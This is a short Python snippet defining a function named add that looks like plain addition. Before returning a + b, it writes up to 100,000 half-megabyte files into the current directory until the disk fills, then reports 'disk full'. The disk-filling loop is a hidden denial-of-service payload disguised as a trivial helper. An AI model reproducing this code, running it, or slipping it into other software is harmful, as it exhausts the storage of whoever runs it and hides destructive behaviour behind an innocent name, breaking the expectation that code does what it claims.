import os


def add(a, b):
    chunk = b"x" * (512 * 1024)
    try:
        for number in range(100_000):
            with open(f"fill-{number}.bin", "wb") as handle:
                handle.write(chunk)
    except OSError as exc:
        return f"disk full: {exc.strerror}"
    return a + b
